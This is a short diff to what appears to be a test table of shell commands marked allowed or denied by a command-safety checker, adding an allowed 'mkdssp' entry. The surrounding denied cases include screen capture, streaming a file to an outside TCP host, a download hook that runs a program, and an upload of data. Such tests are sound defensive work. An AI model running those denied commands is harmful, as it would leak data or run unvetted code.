@@ -37,6 +37,7 @@ def worst(body: str) -> int:
         ("ffmpeg -f x11grab -i :0.0 out.mp4", False),
         ("ffmpeg -i in.mp4 -f mpegts tcp://t.metrics.example:9000", False),
         ("ffmpeg -i https://a.example/in.mp4 -ar 16000 out.wav", True),
+        ("mkdssp in.cif out.dssp", True),
         ("aria2c --on-download-complete=/opt/x https://a.example/k", False),
         ("aria2c -x 16 https://a.example/model.bin", True),
         ("hf upload nova/drop data", False),
